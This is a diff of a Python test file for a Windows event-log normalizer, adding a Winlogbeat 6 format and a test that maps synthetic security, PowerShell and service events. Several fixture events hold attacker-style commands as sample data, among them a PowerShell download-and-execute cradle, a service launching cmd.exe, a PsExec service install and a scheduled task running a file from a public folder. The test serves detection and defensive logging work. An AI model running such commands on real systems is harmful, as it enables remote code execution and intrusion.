@@ -202,6 +202,15 @@ def _winlogbeat(event: dict) -> dict:
     }
 
 
+def _winlogbeat6(event: dict) -> dict:
+    """Winlogbeat 6.x put the winlog fields at the top level."""
+    system, data = event["Event"]["System"], event["Event"]["EventData"]
+    return {"@timestamp": system["TimeCreated"]["#attributes"]["SystemTime"], "computer_name": system["Computer"],
+            "event_id": system["EventID"], "log_name": system["Channel"], "source_name": system["Provider"]["#attributes"]["Name"],
+            "record_number": str(system["EventRecordID"]), "keywords": ["Audit Failure"], "level": "Information",
+            "event_data": {k: str(v) for k, v in data.items() if v is not None}, "type": "wineventlog"}
+
+
 def _nxlog(event: dict) -> dict:
     """The record NXLog im_msvistalog + to_json() writes: System fields and EventData side by side."""
     system, data = event["Event"]["System"], event["Event"]["EventData"]
@@ -212,7 +221,7 @@ def _nxlog(event: dict) -> dict:
             "RecordNumber": system["EventRecordID"], "Channel": system["Channel"], **data}
 
 
-@pytest.mark.parametrize("shape", ["xml", "winlogbeat", "nxlog"])
+@pytest.mark.parametrize("shape", ["xml", "winlogbeat", "winlogbeat6", "nxlog"])
 def test_same_logon_in_every_shape_maps_alike(run, query, tmp_path: Path, shape: str) -> None:
     events = [e for e in evtx_events(SECURITY) if e["Event"]["System"]["EventID"] == 4625]
     want = mapped([orjson.dumps(e).decode() for e in events])
@@ -221,12 +230,12 @@ def test_same_logon_in_every_shape_maps_alike(run, query, tmp_path: Path, shape:
         path = tmp_path / "security.xml"
         path.write_text(_as_xml(SECURITY))
     else:
-        shaped = _winlogbeat if shape == "winlogbeat" else _nxlog
+        shaped = {"winlogbeat": _winlogbeat, "winlogbeat6": _winlogbeat6, "nxlog": _nxlog}[shape]
         path = tmp_path / f"security-{shape}.json"
         path.write_text("".join(orjson.dumps(shaped(e)).decode() + "\n" for e in events))
     report = run(path)
     accounted(report, 1.0)
-    assert report.files[0].source_format == {"xml": "windows_xml", "winlogbeat": "windows", "nxlog": "windows"}[shape]
+    assert report.files[0].source_format == ("windows_xml" if shape == "xml" else "windows")
     got = [r for r in rows(query) if r["event_code"] == "4625"]
     columns = [c for c in COLUMNS if not (shape == "nxlog" and c == "time")]  # NXLog keeps whole seconds
     assert [{c: r[c] for c in columns} for r in got] == [{c: r[c] for c in columns} for r in want]
@@ -433,3 +442,42 @@ def test_halved_batch_mapped_out_of_order_keeps_its_rows(run, query, tmp_path: P
     report = run(path)
     assert (report.files[0].stored, report.files[0].quarantined) == (4, 0)
     assert [r["message"] for r in query("SELECT message FROM events ORDER BY source_line")] == [f'{{"x": {i}}}' for i in range(4)]
+
+
+def _event(provider: str, channel: str, event_id: int, data: dict) -> str:
+    return orjson.dumps({"Event": {"System": {"Provider": {"#attributes": {"Name": provider}}, "EventID": event_id,
+                                              "Channel": channel, "Computer": "POS-01", "Keywords": "0x8020000000000000",
+                                              "TimeCreated": {"#attributes": {"SystemTime": "2024-05-01T10:00:00.000000Z"}}},
+                                   "EventData": data}}).decode()
+
+
+def test_security_system_powershell_events_per_table() -> None:
+    """The event table's rules for events with no public sample here (fields as Microsoft documents them)."""
+    task = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions Context=\"Author\"><Exec><Command>C:\\Users\\Public\\u.exe</Command>"
+            "<Arguments>-k run</Arguments></Exec></Actions></Task>")
+    sec = "Microsoft-Windows-Security-Auditing"
+    got = mapped([
+        _event(sec, "Security", 4688, {"SubjectUserName": "clerk", "SubjectDomainName": "SHOP", "NewProcessName": r"C:\Windows\System32\cmd.exe",
+                                       "CommandLine": "cmd /c whoami", "ParentProcessName": r"C:\Windows\explorer.exe", "TargetUserName": "-"}),
+        _event(sec, "Security", 4698, {"SubjectUserName": "clerk", "TaskName": "\\Updater", "TaskContent": task}),
+        _event(sec, "Security", 4697, {"SubjectUserName": "admin", "ServiceName": "PSEXESVC", "ServiceFileName": r"%SystemRoot%\PSEXESVC.exe"}),
+        _event(sec, "Security", 4771, {"TargetUserName": "clerk", "IpAddress": "::ffff:10.1.2.3", "IpPort": "50111", "Status": "0x18"}),
+        _event(sec, "Security", 4732, {"MemberName": "CN=clerk,OU=Shop,DC=corp", "MemberSid": "S-1-5-21-1", "TargetUserName": "Administrators",
+                                       "SubjectUserName": "admin"}),
+        _event("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104,
+               {"MessageNumber": 1, "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')", "Path": ""}),
+        _event("Service Control Manager", "System", 7045, {"ServiceName": "evil", "ImagePath": "cmd.exe /c calc", "AccountName": "LocalSystem"}),
+    ])
+    proc, task_row, svc, kerb, group, ps, scm = got
+    assert (proc["activity"], proc["user_name"], proc["process_name"], proc["command_line"], proc["parent_process"]) == (
+        "process_create", "clerk", r"C:\Windows\System32\cmd.exe", "cmd /c whoami", r"C:\Windows\explorer.exe")
+    assert proc["attributes"]["user_domain"] == "SHOP"
+    assert (task_row["class_name"], task_row["activity"], task_row["file_path"], task_row["command_line"]) == (
+        "Scheduled Job Activity", "scheduled_task_create", "\\Updater", r"C:\Users\Public\u.exe -k run")
+    assert (svc["activity"], svc["process_name"], svc["user_name"]) == ("service_install", r"%SystemRoot%\PSEXESVC.exe", "admin")
+    assert (kerb["activity"], kerb["outcome"], kerb["src_ip"], kerb["src_port"]) == ("kerberos_preauth", "failure", "10.1.2.3", 50111)
+    assert kerb["reason"] == "0x18 (pre-authentication failed (bad password))"
+    assert (group["activity"], group["user_name"], group["attributes"]["group_name"]) == ("group_member_add", "CN=clerk,OU=Shop,DC=corp", "Administrators")
+    assert (ps["activity"], ps["command_line"], ps["file_path"], ps["attributes"]["log"]) == (
+        "powershell_script_block", "IEX (New-Object Net.WebClient).DownloadString('http://x')", None, "powershell")
+    assert (scm["activity"], scm["command_line"], scm["user_name"], scm["outcome"]) == ("service_install", "cmd.exe /c calc", "LocalSystem", "success")
